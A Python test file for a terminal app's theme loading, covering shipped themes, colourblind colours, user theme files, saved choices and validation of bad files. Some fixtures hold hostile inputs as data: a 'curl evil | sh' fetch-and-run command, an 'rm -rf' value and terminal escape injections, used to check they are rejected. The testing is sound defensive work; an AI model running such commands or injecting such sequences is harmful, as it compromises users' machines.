"""Themes from files: the shipped ones, the user's, a path, the palette's saved choice,
and bad files reported in one line with the default in force (never a crash)."""

from __future__ import annotations

import colorsys
import json

import pytest
from textual.app import App
from textual.color import Color

from fundtui.config import ConfigError
from fundtui.config.load import parse_config
from fundtui.store.paths import config_dir, data_dir
from fundtui.ui import format as fmt
from fundtui.ui.theme import (
    DEFAULT_THEME,
    FUNDTUI_DARK,
    ThemeError,
    bundled_themes,
    install_themes,
    parse_theme,
    saved_theme,
    state_path,
    theme_from_data,
)
from tests.fakesource import quote

SHIPPED = ("fundtui-dark", "fundtui-light", "fundtui-high-contrast", "fundtui-colourblind")


def palette_of(theme) -> fmt.Palette:
    return fmt.Palette.from_variables(theme.to_color_system().generate())


def hue(colour: str) -> float:
    c = Color.parse(colour)
    return colorsys.rgb_to_hsv(c.r / 255, c.g / 255, c.b / 255)[0] * 360


def test_the_four_themes_ship_as_data_with_the_default_first():
    themes = bundled_themes()
    assert [t.name for t in themes][0] == DEFAULT_THEME
    assert sorted(t.name for t in themes) == sorted(SHIPPED)
    assert {t.name: t.dark for t in themes}["fundtui-light"] is False


def test_the_shipped_dark_file_is_the_built_in_default():
    dark = next(t for t in bundled_themes() if t.name == DEFAULT_THEME)
    for key in ("primary", "accent", "warning", "error", "success", "foreground", "background"):
        assert Color.parse(getattr(dark, key)) == Color.parse(getattr(FUNDTUI_DARK, key)), key


def test_colourblind_theme_signs_funding_in_blue_and_orange_not_green_and_red():
    cb = next(t for t in bundled_themes() if t.name == "fundtui-colourblind")
    assert 180 <= hue(cb.success) <= 250  # blue
    assert 25 <= hue(cb.error) <= 45  # orange
    dark = next(t for t in bundled_themes() if t.name == DEFAULT_THEME)
    assert 90 <= hue(dark.success) <= 160 and hue(dark.error) > 340  # green / red there


@pytest.mark.parametrize("name", SHIPPED)
def test_every_theme_keeps_sign_and_stale_mark_in_the_text(name):
    theme = next(t for t in bundled_themes() if t.name == name)
    p = palette_of(theme)
    neg = fmt.rate_cell(quote("okx", "BTC", -0.0002), fmt.Unit.H8, p)
    pos = fmt.rate_cell(quote("okx", "BTC", 0.0002), fmt.Unit.H8, p)
    stale = fmt.rate_cell(quote("okx", "BTC", 0.0002), fmt.Unit.H8, p, stale=True)
    assert neg.plain.strip().startswith("-") and not pos.plain.strip().startswith("-")
    assert stale.plain.strip().startswith("~")
    assert p.pos[0].color != p.neg[0].color  # and the colours differ as well


@pytest.mark.parametrize(
    ("data", "why"),
    [
        ([1, 2], "not a table"),
        ({"name": "x", "success": "#00ff00"}, "primary colour missing"),
        ({"name": "x", "primary": "#fff", "script": "rm -rf"}, 'unknown key "script"'),
        ({"name": "x", "primary": "[bold red]x"}, "primary must be a colour"),
        ({"name": "x", "primary": "#fff", "error": 5}, "error must be a colour"),
        ({"name": "[link=x]y", "primary": "#fff"}, "name must be"),
        ({"name": "x\x1b]0;PWNED\x07", "primary": "#fff"}, "\\x1b"),
        ({"name": "x", "primary": "#fff", "dark": "yes"}, "dark must be"),
    ],
)
def test_a_theme_file_is_checked_key_by_key(data, why):
    with pytest.raises(ThemeError) as e:
        theme_from_data(data, "stem")
    assert why in str(e.value)
    assert "\x1b" not in str(e.value)


def test_a_theme_without_a_name_takes_its_files_stem_and_json_works():
    t = parse_theme(json.dumps({"primary": "#123456", "dark": False}), ".json", "mine")
    assert (t.name, t.dark, Color.parse(t.primary)) == ("mine", False, Color.parse("#123456"))
    with pytest.raises(ThemeError):
        parse_theme("primary = ", ".toml", "broken")


def themes_dir():
    d = config_dir() / "themes"
    d.mkdir(exist_ok=True)
    return d


def test_no_choice_and_nothing_saved_is_the_default_dark():
    app = App()
    setup = install_themes(app, None)
    assert app.theme == DEFAULT_THEME and setup.notices == []
    assert set(SHIPPED) <= set(app.available_themes)


@pytest.mark.parametrize("name", SHIPPED)
def test_a_shipped_theme_is_chosen_by_name(name):
    app = App()
    assert install_themes(app, name).notices == []
    assert app.theme == name


def test_an_unknown_name_is_one_line_and_the_default():
    app = App()
    setup = install_themes(app, "solarised\x1b[2J")
    assert app.theme == DEFAULT_THEME
    [notice] = setup.notices
    assert "not found" in notice and "fundtui-light" in notice
    assert "\x1b" not in notice and "\n" not in notice


def test_user_themes_come_from_the_config_folder_by_name_or_stem():
    d = themes_dir()
    (d / "paper.toml").write_text('name = "my-paper"\nprimary = "#224488"\ndark = false\n')
    app = App()
    assert install_themes(app, "my-paper").notices == []
    assert app.theme == "my-paper" and app.current_theme.dark is False
    install_themes(app, "paper")  # the file's stem finds it too
    assert app.theme == "my-paper"


def test_a_bad_user_theme_is_reported_once_left_in_place_and_the_rest_still_load():
    d = themes_dir()
    bad = d / "bad.toml"
    bad.write_text('primary = "#fff"\ncommand = "curl evil | sh"\n')
    (d / "binary.toml").write_bytes(b"\xff\xfe\x00garbage")
    (d / "good.toml").write_text('primary = "#00ff00"\n')
    before = sorted(p.name for p in d.iterdir())
    app = App()
    setup = install_themes(app, "bad")
    assert app.theme == DEFAULT_THEME  # "bad" never registered
    assert "good" in app.available_themes
    assert len(setup.notices) == 3  # two unusable files, and the choice not found
    assert any("bad.toml" in n and 'unknown key "command"' in n for n in setup.notices)
    assert all("\n" not in n for n in setup.notices)
    assert sorted(p.name for p in d.iterdir()) == before  # the user's folder untouched
    assert bad.read_text().endswith('"curl evil | sh"\n')


def test_a_theme_by_path(tmp_path):
    path = tmp_path / "mine.toml"
    path.write_text('name = "by-path"\nprimary = "#abcdef"\n')
    app = App()
    assert install_themes(app, str(path)).notices == []
    assert app.theme == "by-path"
    missing = install_themes(App(), str(tmp_path / "nope.toml")).notices
    assert len(missing) == 1 and "not found" in missing[0]


def test_a_huge_theme_file_is_refused_not_read_whole(tmp_path):
    path = tmp_path / "huge.toml"
    path.write_text('primary = "#fff"\n' + "# pad\n" * 40_000)
    app = App()
    [notice] = install_themes(app, str(path)).notices
    assert app.theme == DEFAULT_THEME and "huge.toml" in notice


def test_the_palettes_choice_is_saved_and_used_next_time():
    app = App()
    setup = install_themes(app, None)
    setup.remember(DEFAULT_THEME)  # the theme in force: nothing written
    assert not state_path().exists()
    setup.remember("fundtui-high-contrast")
    assert json.loads(state_path().read_text())["theme"] == "fundtui-high-contrast"
    again = App()
    assert install_themes(again, None).notices == []
    assert again.theme == "fundtui-high-contrast"
    explicit = App()  # --theme or [general] theme wins over the saved one
    install_themes(explicit, "fundtui-light")
    assert explicit.theme == "fundtui-light"


def test_a_saved_theme_gone_since_falls_back_with_one_line():
    state_path().parent.mkdir(parents=True, exist_ok=True)
    state_path().write_text(json.dumps({"version": 1, "theme": "deleted-one"}))
    app = App()
    [notice] = install_themes(app, None).notices
    assert app.theme == DEFAULT_THEME and "saved theme" in notice


def test_a_damaged_state_file_is_moved_aside_in_the_data_folder():
    state_path().parent.mkdir(parents=True, exist_ok=True)
    state_path().write_text("{not json")
    assert saved_theme()[0] is None
    assert not state_path().exists()
    assert any(p.name.startswith("ui-state.json.corrupt-") for p in data_dir().iterdir())


def test_config_general_theme():
    assert parse_config("").theme is None
    assert parse_config('[general]\ntheme = "fundtui-light"\n').theme == "fundtui-light"
    beside = parse_config('[general]\ntheme = "mine.toml"\n', "/home/u/.config/fundtui/c.toml")
    assert beside.theme == "/home/u/.config/fundtui/mine.toml"
    for bad in ("theme = 3", 'theme = ""', "theme = [1]"):
        with pytest.raises(ConfigError, match="theme must be"):
            parse_config(f"[general]\n{bad}\n")
